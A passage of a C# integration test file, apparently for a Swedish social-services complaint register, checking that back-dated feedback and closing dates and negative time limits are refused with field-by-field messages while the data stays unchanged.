    public async Task HandlingWithDatesBeforeTheMatterCameIn_IsRefusedFieldByField_InTheFormsOrder_AndNothingChanges()
    {
        var session = await DemoAsync("enhetschef.bestallarenheten");
        var url = (await session.SubmitAsync($"/organisation/{Bestallarenheten}/arenden/registrera", Complaint("Brukaren väntade på ett möte.", "2025-06-10"))).Location!;

        var refused = await session.SubmitAsync(url, new Dictionary<string, string>
        {
            ["Input.Investigation"] = "",
            ["Input.Measures"] = "",
            ["Input.FeedbackGiven"] = "true",
            ["Input.FeedbackOn"] = "2025-06-01",
            ["Input.FeedbackForm"] = "",
            ["Input.Status"] = "Closed",
            ["Input.ClosedOn"] = "2025-06-09",
        });

        refused.ErrorMessages.ShouldBe([
            "Skriv utredningen innan ärendet markeras som utrett eller avslutat.",
            "Datum för återkoppling: datumet kan inte vara före 2025-06-10.",
            "Välj hur återkopplingen lämnades.",
            "Avslutat datum: datumet kan inte vara före 2025-06-10.",
        ]);
        (await WithDbAsync(db => db.Matters.Where(m => m.Description == "Brukaren väntade på ett möte.").Select(m => new { m.Status, m.ClosedOn, m.FeedbackOn }).SingleAsync()))
            .ShouldBe(new { Status = MatterStatus.Received, ClosedOn = (DateOnly?)null, FeedbackOn = (DateOnly?)null });
    }

    [Fact]
    public async Task ANegativeTimeLimit_IsRefusedWithAMessageNamingTheLimit_AndNothingChanges()
    {
        var session = await DemoAsync("enhetschef.bestallarenheten");
        var audited = await Data.AuditCountAsync();

        var refused = await session.SubmitAsync($"/organisation/{Bestallarenheten}/arenden/installningar",
            new Dictionary<string, string> { ["Input.Inherit"] = "false", ["Input.OpenDaysLimit"] = "-5", ["Input.DecisionDaysLimit"] = "14", ["Input.IvoDaysLimit"] = "-1" });

        refused.ErrorMessages.ShouldBe([
            "Skriv hur många dagar ett ärende får vara öppet innan det flaggas, från 1 till 365.",
            "Skriv inom hur många dagar efter beslutet IVO ska underrättas, från 1 till 365.",
        ]);
        (await Data.AuditCountAsync()).ShouldBe(audited);
    }

    private static Dictionary<string, string> Complaint(string description, string receivedOn = "2025-05-15") => new()
    {
        ["Input.Kind"] = "Complaint",
        ["Input.ReceivedOn"] = receivedOn,
        ["Input.Source"] = "Client",
        ["Input.Category"] = "Treatment",
        ["Input.Description"] = description,
    };

    /// <summary>The table as "group|label|T1|T2|VB|Totalt", the group only on its first row, as seed 003 prints it.</summary>
    private static List<string> TableRows(WebSession.PageResult page)
    {
        page.Status.ShouldBe(HttpStatusCode.OK);
        var rows = new List<string>();
        foreach (var tr in page.Document.QuerySelectorAll("table.register-table tbody tr"))
        {
            var group = tr.QuerySelector("th[scope=rowgroup]")?.TextContent.Trim() ?? string.Empty;
            var label = tr.QuerySelector("th[scope=row]")!.TextContent.Trim();
            var cells = tr.QuerySelectorAll("td.numeric").Select(td => td.TextContent.Trim());
            rows.Add(string.Join("|", new[] { group, label }.Concat(cells)));
        }

        return rows;
    }

    private static List<int[]> Numbers(List<string> rows) =>
        rows.Select(r => r.Split('|').Skip(2).Select(c => c.Length == 0 ? 0 : int.Parse(c.Replace(" st", string.Empty, StringComparison.Ordinal), System.Globalization.CultureInfo.InvariantCulture)).ToArray()).ToList();

    private static Matter NewMatter(Guid unitId, MatterKind kind, DateOnly received, Action<Matter> fill)
    {
        var matter = new Matter { Id = Guid.NewGuid(), OrgUnitId = unitId, Kind = kind, ReceivedOn = received, Description = "Testärende.", Version = Guid.NewGuid() };
        fill(matter);
        return matter;
    }

    private async Task<Guid> AddUnitAsync(Guid parentId, string name)
    {
        return await WithDbAsync(async db =>
        {
            var parent = await db.OrgUnits.SingleAsync(u => u.Id == parentId);
            var unit = OrgUnit.CreateChild(Guid.NewGuid(), name, OrgUnitKind.Unit, parent);
            db.OrgUnits.Add(unit);
            await db.SaveChangesAsync();
            return unit.Id;
        });
    }

    private async Task<MatterStatus> StatusOfAsync(string url)
    {
        var id = Guid.Parse(url.Split('/').Last());
        return await WithDbAsync(db => db.Matters.Where(m => m.Id == id).Select(m => m.Status).SingleAsync());
    }
}

public sealed class RegisterTests_Sqlite(SqliteFixture fixture) : RegisterTests(fixture), IClassFixture<SqliteFixture>;

public sealed class RegisterTests_PostgreSql(PostgresFixture fixture) : RegisterTests(fixture), IClassFixture<PostgresFixture>;
